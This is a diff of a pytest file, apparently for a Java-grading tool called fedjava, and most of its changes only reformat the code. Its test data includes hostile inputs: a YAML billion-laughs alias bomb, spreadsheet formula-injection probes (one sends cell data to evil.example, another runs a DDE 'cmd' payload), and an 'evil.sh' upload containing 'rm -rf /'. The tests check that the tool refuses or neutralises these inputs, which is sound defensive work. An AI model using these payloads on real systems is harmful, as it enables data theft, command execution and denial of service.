@@ -87,8 +87,11 @@ INT_KEYS = [f.name for f in fields(Config) if typing.get_type_hints(Config)[f.na
 @pytest.mark.parametrize("key", INT_KEYS)
 def test_every_integer_key_is_bounded(key, data_dir, capsys):
     """A new integer key without an upper bound fails here: 10^20 passed every '>= 1' check before."""
-    refused(capsys, ["config", "check", f"data_dir={data_dir}", f"{key}=99999999999999999999"],
-            f"{key}=99999999999999999999: must be at most ")
+    refused(
+        capsys,
+        ["config", "check", f"data_dir={data_dir}", f"{key}=99999999999999999999"],
+        f"{key}=99999999999999999999: must be at most ",
+    )
 
 
 BAD_PRESETS = [
@@ -112,10 +115,15 @@ def test_bad_preset_files(content, message, data_dir, tmp_path, capsys):
 
 # ---------------------------------------------------------------- task files (review --task-file, grade --task)
 
-BILLION_LAUGHS = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
-    f"{chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, "
-    f"*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}]\n" for i in range(8)) + \
-    "requirement: boom\ntests:\n  - call: *i\n    expect: '1'\n"
+BILLION_LAUGHS = (
+    "a: &a [x, x, x, x, x, x, x, x, x]\n"
+    + "".join(
+        f"{chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, "
+        f"*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}]\n"
+        for i in range(8)
+    )
+    + "requirement: boom\ntests:\n  - call: *i\n    expect: '1'\n"
+)
 
 BAD_TASKS = [  # (file name, content, what the error says); every secret must stay out of the message
     ("shadow", SHADOW, "shadow: not a task file: a task file is a YAML mapping with 'requirement:'"),
@@ -178,15 +186,19 @@ def test_bad_task_files_for_grade_write_nothing(name, content, message, tmp_path
     (tmp_path / "cls").mkdir()
     (tmp_path / "cls" / "alice.java").write_text(GOOD)
     before = snapshot(tmp_path)
-    err = refused(capsys, ["grade", str(tmp_path / "cls"), "--task", str(task), "--out", str(tmp_path / "out")],
-                  message)
+    err = refused(
+        capsys, ["grade", str(tmp_path / "cls"), "--task", str(task), "--out", str(tmp_path / "out")], message
+    )
     assert SECRET not in err and snapshot(tmp_path) == before and not (tmp_path / "out").exists()
 
 
 # ---------------------------------------------------------------- data files (data import, data split)
 
-LEGACY = {"system_prompt": "You are a Java teacher.", "feedback": "No errors found. Code is correct.",
-          "user_prompt": f"Java code requirement: {REQUIREMENT} student code: {GOOD}"}
+LEGACY = {
+    "system_prompt": "You are a Java teacher.",
+    "feedback": "No errors found. Code is correct.",
+    "user_prompt": f"Java code requirement: {REQUIREMENT} student code: {GOOD}",
+}
 
 BAD_IMPORTS = [  # (input content or None for missing, extra options, message)
     (None, [], "in.jsonl: file not found"),
@@ -196,8 +208,11 @@ BAD_IMPORTS = [  # (input content or None for missing, extra options, message)
     (b"{not json\n", [], "no row is a JSON object, cannot tell the format"),
     (b"[1, 2, 3]", [], "no row is a JSON object"),
     (b'{"text": "hello"}\n', [], "cannot tell"),
-    (json.dumps({**LEGACY, "user_prompt": "Java code requirement: x student code: "}).encode() + b"\n", [],
-     "nothing written"),
+    (
+        json.dumps({**LEGACY, "user_prompt": "Java code requirement: x student code: "}).encode() + b"\n",
+        [],
+        "nothing written",
+    ),
     (json.dumps(LEGACY).encode() + b"\n", ["--format", "alpaca"], "nothing written"),
     (json.dumps(LEGACY).encode() + b"\nnope\n", ["--on-error", "stop"], "stopped at the first bad row"),
 ]
@@ -221,8 +236,11 @@ def test_import_never_replaces_a_file_unasked(tmp_path, capsys):
     train.parent.mkdir()
     train.write_text('{"shipped": 1}\n' * 5)
     before = snapshot(tmp_path)
-    refused(capsys, ["data", "import", str(source), "--out", str(train)],
-            f"error: {train} exists already: pass --force to replace it")
+    refused(
+        capsys,
+        ["data", "import", str(source), "--out", str(train)],
+        f"error: {train} exists already: pass --force to replace it",
+    )
     assert snapshot(tmp_path) == before
     refused(capsys, ["data", "import", str(source), "--out", str(tmp_path / "data")], "is a folder; give a file name")
     fifo = tmp_path / "pipe.jsonl"
@@ -248,8 +266,20 @@ BAD_SPLITS = [  # (what to do to the data folder, options, message)
 ]
 
 
-SPLIT_IDS = ["no-clients", "1000-clients", "more-clients-than-samples", "alpha-nan", "alpha-inf", "alpha-negative",
-             "missing-train", "binary-train", "empty-array", "bad-sample", "broken-valid", "fifo-train"]
+SPLIT_IDS = [
+    "no-clients",
+    "1000-clients",
+    "more-clients-than-samples",
+    "alpha-nan",
+    "alpha-inf",
+    "alpha-negative",
+    "missing-train",
+    "binary-train",
+    "empty-array",
+    "bad-sample",
+    "broken-valid",
+    "fifo-train",
+]
 
 
 @pytest.mark.parametrize("change, options, message", BAD_SPLITS, ids=SPLIT_IDS)
@@ -265,9 +295,12 @@ def test_split_never_replaces_an_earlier_split_unasked(data_dir, capsys):
     assert main(["data", "split", "--data-dir", str(data_dir), "--clients", "2"]) == 0
     capsys.readouterr()
     before = snapshot(data_dir)
-    refused(capsys, ["data", "split", "--data-dir", str(data_dir), "--clients", "4"],
-            f"error: {data_dir} holds an earlier split (client_0.json, client_1.json, clients.json ...): pass "
-            "--force to replace it")
+    refused(
+        capsys,
+        ["data", "split", "--data-dir", str(data_dir), "--clients", "4"],
+        f"error: {data_dir} holds an earlier split (client_0.json, client_1.json, clients.json ...): pass "
+        "--force to replace it",
+    )
     assert snapshot(data_dir) == before
     assert main(["data", "split", "--data-dir", str(data_dir), "--clients", "4", "--force"]) == 0
     assert json.loads((data_dir / "clients.json").read_text())["num_clients"] == 4
@@ -297,21 +330,33 @@ BAD_CLASSES = [  # (how to make SUBMISSIONS at path p, message)
 ]
 
 
-@pytest.mark.parametrize("make, message", BAD_CLASSES, ids=["missing", "csv", "corrupt-zip", "fifo", "empty-folder",
-                                                         "hidden-only", "empty-zip", "macosx-only"])
+@pytest.mark.parametrize(
+    "make, message",
+    BAD_CLASSES,
+    ids=["missing", "csv", "corrupt-zip", "fifo", "empty-folder", "hidden-only", "empty-zip", "macosx-only"],
+)
 def test_bad_submissions_write_nothing(make, message, tmp_path, capsys):
     task = tmp_path / "task.yaml"
     task.write_text(TASK_YAML)
     make(tmp_path / "class.zip")
-    refused(capsys, ["grade", str(tmp_path / "class.zip"), "--task", str(task), "--out", str(tmp_path / "out")],
-            message)
+    refused(
+        capsys, ["grade", str(tmp_path / "class.zip"), "--task", str(task), "--out", str(tmp_path / "out")], message
+    )
     assert not (tmp_path / "out").exists()
 
 
 # ---------------------------------------------------------------- hostile classes that grade (no model needed)
 
-PROBE_IDS = ["=1+2", "+SUM(1,1)", "@SUM(1,1)", '=HYPERLINK("http://evil.example/?x="&A1,"click")',
-             "=cmd|' /C calc'!A0", "-2+3", "\tTAB", "\rCR"]
+PROBE_IDS = [
+    "=1+2",
+    "+SUM(1,1)",
+    "@SUM(1,1)",
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    "-2+3",
+    "\tTAB",
+    "\rCR",
+]
 FORMULA_IDS = [s.replace("/", "-") for s in PROBE_IDS]  # as file names in a zip (a / would make folders)
 LONG_IDS = ["x" * 300, "x" * 299 + "y", "é" * 200]  # longer than the 255 bytes a file name may have
 
@@ -339,8 +384,11 @@ def test_a_class_with_formula_and_over_long_names_is_graded_with_every_output(tm
         assert (out / name).is_file(), name
     assert check_gradebook(out / "grades.csv", assignment) == []
     for name in ("grades.csv", "grades_detail.csv"):
-        cells = [cell for row in csv.reader(io.StringIO((out / name).read_bytes().decode("utf-8"), newline=""))
-                 for cell in row]
+        cells = [
+            cell
+            for row in csv.reader(io.StringIO((out / name).read_bytes().decode("utf-8"), newline=""))
+            for cell in row
+        ]
         assert not [c for c in cells if c.startswith(FORMULA_START)], name  # nothing a spreadsheet would run
         for student in FORMULA_IDS:
             assert "'" + student in cells, (name, student)
@@ -360,8 +408,10 @@ def test_a_class_with_formula_and_over_long_names_is_graded_with_every_output(tm
 def test_the_probes_ids_are_neutralised_and_scores_stay_numbers(tmp_path):
     from fedjava.grading.gradebook import GradeRow, cell_value, check_gradebook, detail_text, gradebook_text
 
-    rows = [GradeRow(s, score, 10, "teacher", "NO_ERROR", "", "graded", s, "released", True, "p.html", s)
-            for s, score in zip([*PROBE_IDS, "alice", "bob"], [*[7.5] * len(PROBE_IDS), -1, 0], strict=True)]
+    rows = [
+        GradeRow(s, score, 10, "teacher", "NO_ERROR", "", "graded", s, "released", True, "p.html", s)
+        for s, score in zip([*PROBE_IDS, "alice", "bob"], [*[7.5] * len(PROBE_IDS), -1, 0], strict=True)
+    ]
     path = tmp_path / "grades.csv"
     path.write_text(gradebook_text("HW", rows), encoding="utf-8", newline="")
     assert check_gradebook(path) == ["row 10: score '-1' is not a plain number with at most two decimals"]
@@ -392,14 +442,18 @@ def test_the_output_folder_is_never_graded_as_a_student(tmp_path, capsys):
     elsewhere = tmp_path / "elsewhere"  # an earlier run's folder inside the class, --out now elsewhere
     _grade(tmp_path, cls, capsys, "--out", str(elsewhere))
     assert sorted(row["student"] for row in read_detail(elsewhere / "grades_detail.csv")) == ["alice", "bob"]
-    zipped = _zip(tmp_path / "cls.zip", {f"cls/{p.relative_to(cls)}": p.read_bytes() for p in cls.rglob("*")
-                                          if p.is_file()})  # the class zipped with its graded folders in it
+    zipped = _zip(
+        tmp_path / "cls.zip", {f"cls/{p.relative_to(cls)}": p.read_bytes() for p in cls.rglob("*") if p.is_file()}
+    )  # the class zipped with its graded folders in it
     _grade(tmp_path, zipped, capsys, "--out", str(tmp_path / "from_zip"))
-    assert sorted(row["student"] for row in read_detail(tmp_path / "from_zip" / "grades_detail.csv")) == \
-        ["alice", "bob"]
+    assert sorted(row["student"] for row in read_detail(tmp_path / "from_zip" / "grades_detail.csv")) == [
+        "alice",
+        "bob",
+    ]
 
 
 # ---------------------------------------------------------------- requests to fedjava serve
+
 
 @pytest.fixture(scope="module")
 def served(taught_adapter):
@@ -429,12 +483,27 @@ BAD_REQUESTS = [  # (headers, form fields, files, status, what the page says); T
     ({}, {"form_token": True}, {"code_file": ("evil.sh", b"rm -rf /")}, 400, "not a .java file"),
     ({}, {"form_token": True}, {"code_file": ("x" * 300 + ".java", b"\x00")}, 400, "not a text file"),
     ({}, {"form_token": True, "code": GOOD}, {"task_file": ("shadow", SHADOW.encode())}, 400, "not a task file"),
-    ({}, {"form_token": True, "code": GOOD}, {"task_file": ("s.yaml", f"a: {SECRET}: b\n".encode())}, 400,
-     "not a YAML task file"),
-    ({}, {"form_token": True, "code": GOOD}, {"task_file": ("bomb.yaml", BILLION_LAUGHS.encode())}, 400,
-     "YAML aliases"),
-    ({}, {"form_token": True, "code": GOOD}, {"task_file": ("t" * 300 + ".yaml", b"requirement: [1]\n")}, 400,
-     "'requirement' must be a non-empty string"),
+    (
+        {},
+        {"form_token": True, "code": GOOD},
+        {"task_file": ("s.yaml", f"a: {SECRET}: b\n".encode())},
+        400,
+        "not a YAML task file",
+    ),
+    (
+        {},
+        {"form_token": True, "code": GOOD},
+        {"task_file": ("bomb.yaml", BILLION_LAUGHS.encode())},
+        400,
+        "YAML aliases",
+    ),
+    (
+        {},
+        {"form_token": True, "code": GOOD},
+        {"task_file": ("t" * 300 + ".yaml", b"requirement: [1]\n")},
+        400,
+        "'requirement' must be a non-empty string",
+    ),
 ]
 
 
@@ -453,8 +522,9 @@ def test_bad_serve_bodies(served):
     client, counting = served
     token = form_token(client)
     assert client.post("/review", content=b"{}", headers={"content-type": "application/json"}).status_code == 403
-    bad_multipart = client.post("/review", content=b"--x\r\nnonsense", headers={
-        "content-type": "multipart/form-data"})  # no boundary
+    bad_multipart = client.post(
+        "/review", content=b"--x\r\nnonsense", headers={"content-type": "multipart/form-data"}
+    )  # no boundary
     assert 400 <= bad_multipart.status_code < 500
     many = {f"f{i}": (f"{i}.java", GOOD) for i in range(3)}
     assert client.post("/review", data={"form_token": token}, files=many).status_code == 400  # at most 2 files
